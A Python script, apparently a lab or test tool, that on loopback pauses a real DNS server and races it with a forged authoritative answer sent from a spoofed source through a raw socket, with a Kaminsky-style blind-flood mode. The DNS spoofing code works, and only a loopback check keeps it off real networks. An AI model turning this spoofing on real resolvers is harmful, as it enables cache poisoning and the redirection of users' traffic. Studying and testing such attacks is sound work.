#!/usr/bin/env python3
"""On-path injection on loopback: one query, a forged answer, then the real one.

    inject.py --client 127.0.0.100 --server 127.0.0.11 --qname www.victim.test \
        --forged-a 203.0.113.66 --pids PID,PID,...

1. stops the real name server's processes (SIGSTOP, --pids), so that its
   answer can only come after the forgery, as when an on-path box (a national
   firewall, a compromised router) races the real server and wins;
2. sends the query from a UDP socket bound to --client (no recursion);
3. sends the forged answer from --server port 53 to the client's port with the
   query's id, through a raw IPv4 socket (IP_HDRINCL: the source address is
   the real server's, which only a raw socket can claim while the real server
   holds that port); it carries only the answer: --qname A --forged-a;
4. receives the forged answer, resumes the server (SIGCONT), receives the real
   answer on the same socket, so that both responses are in the capture and
   no ICMP port-unreachable follows;
5. prints the DNS id on stdout.

With --flood N it plays blind spoofing instead (Kaminsky-style poisoning):
the forger does not see the query, so step 3 sends N forged answers with
random transaction ids (none the query's) while the client waits, then
step 4 drains them and receives the real answer. It prints the query's id
on the first line and the forged ids, in the order sent, on the second.

Needs root (raw socket, signals to the server). Loopback only: the script
refuses addresses outside 127.0.0.0/8. Stdlib only.
"""

import argparse
import os
import random
import signal
import socket
import struct
import sys
import time


def encode_name(name):
    out = b""
    for label in name.rstrip(".").split("."):
        out += bytes([len(label)]) + label.encode("ascii")
    return out + b"\x00"


def checksum(data):
    if len(data) % 2:
        data += b"\x00"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def udp_ipv4(src, sport, dst, dport, payload):
    length = 8 + len(payload)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, length)
    udp = struct.pack("!HHHH", sport, dport, length, 0) + payload
    csum = checksum(pseudo + udp) or 0xFFFF
    udp = udp[:6] + struct.pack("!H", csum) + udp[8:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, random.randrange(65536), 0x4000, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + udp


def wait_state(pid, want, timeout=5.0):
    """Waits until /proc/PID/stat shows a state in WANT (e.g. 'T' stopped)."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        try:
            with open("/proc/%d/stat" % pid) as f:
                state = f.read().rsplit(")", 1)[1].split()[0]
        except FileNotFoundError:
            return
        if state in want:
            return
        time.sleep(0.01)
    sys.exit("inject: process %d did not reach state %s" % (pid, want))


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--client", required=True)
    ap.add_argument("--server", required=True)
    ap.add_argument("--qname", required=True)
    ap.add_argument("--forged-a", required=True)
    ap.add_argument("--ttl", type=int, default=3600)
    ap.add_argument("--pids", required=True, help="comma-separated pids of the real server's processes")
    ap.add_argument("--flood", type=int, default=0, help="blind spoofing: this many forged answers, random ids")
    args = ap.parse_args()
    for a in (args.client, args.server):
        if not a.startswith("127."):
            sys.exit("inject: loopback addresses only (%s)" % a)
    pids = [int(p) for p in args.pids.split(",") if p]

    qid = random.randrange(1, 65536)
    question = encode_name(args.qname) + struct.pack("!HH", 1, 1)
    query = struct.pack("!HHHHHH", qid, 0x0000, 1, 0, 0, 0) + question  # RD=0, like a resolver

    def forged_answer(txid):
        return (struct.pack("!HHHHHH", txid, 0x8400, 1, 1, 0, 0) + question +  # QR AA, NOERROR
                struct.pack("!HHHIH", 0xC00C, 1, 1, args.ttl, 4) + socket.inet_aton(args.forged_a))
    forged = forged_answer(qid)
    flood_ids = random.sample([i for i in range(1, 65536) if i != qid], args.flood)

    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    client.bind((args.client, 0))
    client.settimeout(3.0)
    cport = client.getsockname()[1]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)

    stopped = []
    try:
        for pid in pids:
            os.kill(pid, signal.SIGSTOP)
            stopped.append(pid)
        for pid in pids:
            wait_state(pid, "T")
        client.sendto(query, (args.server, 53))
        time.sleep(0.003)  # the time an on-path box needs to see the query and answer it
        if args.flood:
            for txid in flood_ids:
                raw.sendto(udp_ipv4(args.server, 53, args.client, cport, forged_answer(txid)), (args.client, 0))
                time.sleep(0.002)  # 500 per second: within any burst window, and slow enough for tcpdump on lo
            for txid in flood_ids:
                got, src = client.recvfrom(4096)
                if src != (args.server, 53) or got != forged_answer(txid):
                    sys.exit("inject: forged answer %d did not arrive in order (from %s: %s)" % (txid, src, got.hex()))
            first = None
        else:
            raw.sendto(udp_ipv4(args.server, 53, args.client, cport, forged), (args.client, 0))
            first, src = client.recvfrom(4096)
            if src != (args.server, 53) or first != forged:
                sys.exit("inject: the first answer is not the forged one (from %s: %s, forged %s)" % (src, first.hex(), forged.hex()))
    finally:
        for pid in stopped:
            os.kill(pid, signal.SIGCONT)
    second, src = client.recvfrom(4096)
    if src != (args.server, 53) or second[:2] != struct.pack("!H", qid) or second == forged:
        sys.exit("inject: no real answer with id %d from %s:53" % (qid, args.server))
    print(qid)
    if args.flood:
        print(" ".join(str(i) for i in flood_ids))


if __name__ == "__main__":
    main()
